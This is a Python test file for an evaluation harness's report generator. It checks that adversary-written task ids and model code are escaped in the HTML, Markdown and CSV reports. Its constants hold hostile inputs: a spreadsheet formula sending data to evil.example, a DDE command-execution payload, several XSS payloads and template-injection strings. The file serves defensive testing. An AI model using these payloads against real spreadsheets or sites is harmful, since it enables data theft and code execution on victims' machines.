"""A run whose task ids and model text were written by an adversary: the report's HTML,
Markdown and CSV files show that text and never obey it (no live HTML, no template
evaluation, no spreadsheet formula)."""
from __future__ import annotations

import csv
import re
from pathlib import Path

import msgspec

from harness.report import write_report
from synthrun import EVIL_TASK, header, synthetic_records, with_lesson, write_run

FORMULA_TASK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"
HTML_TASK = "<img src=x onerror=alert(1)>[click](javascript:alert(2))"
CODE = "def f(x):\n    return '</script><script>alert(3)</script>{{ 7*7 }}{% if 1 %}x{% endif %}'\n"
LESSON = "=cmd|' /C calc'!A0 </textarea><svg onload=alert(4)> {{ config }}"


def _hostile_run(tmp_path: Path, task_id: str) -> Path:
    records = [with_lesson(msgspec.structs.replace(r, task_id=task_id, code=CODE), LESSON if r.lesson else None)
               if r.task_id == EVIL_TASK else r for r in synthetic_records()]
    head = header()
    head["tasks"]["task_ids"] = [task_id if t == EVIL_TASK else t for t in head["tasks"]["task_ids"]]
    run = write_run(tmp_path / "run", head, records)
    write_report(run)
    return run


def test_no_csv_cell_starts_a_spreadsheet_formula(tmp_path: Path):
    run = _hostile_run(tmp_path, FORMULA_TASK)
    cells = [cell for path in run.glob("*.csv") for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
    assert "'" + FORMULA_TASK in cells
    formulas = [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not re.fullmatch(r"-[\d.e+-]+", c))]
    assert formulas == []


def test_a_negative_number_stays_a_number_in_the_csv(tmp_path: Path):
    from harness.report.render import _csv_cell

    assert _csv_cell("-0.125") == "-0.125" and _csv_cell(-0.125) == -0.125 and _csv_cell("+1e3") == "+1e3"
    assert _csv_cell("-x") == "'-x" and _csv_cell("@SUM(A1)") == "'@SUM(A1)" and _csv_cell("\t=1") == "'\t=1"


def test_markdown_shows_html_and_links_from_data_as_text(tmp_path: Path):
    run = _hostile_run(tmp_path, HTML_TASK)
    md = (run / "report.md").read_text(encoding="utf-8")
    assert "<img" not in md and "](javascript:" not in md
    assert "&lt;img src=x onerror=alert(1)&gt;[click]\\(javascript:alert(2))" in md
    assert "[view](http://127.0.0.1:8765/runs/run/tasks/HumanEval/1)" in md  # the report's own links stay links


def test_html_never_runs_or_evaluates_model_text(tmp_path: Path):
    run = _hostile_run(tmp_path, HTML_TASK)
    page = (run / "report.html").read_text(encoding="utf-8")
    assert "<script" not in page.lower() and "<img src=x" not in page and "<svg onload" not in page
    assert "{{ 7*7 }}" in page and "{% if 1 %}" in page and "{{ config }}" in page  # shown, not evaluated
    assert "&lt;/script&gt;&lt;script&gt;alert(3)" in page
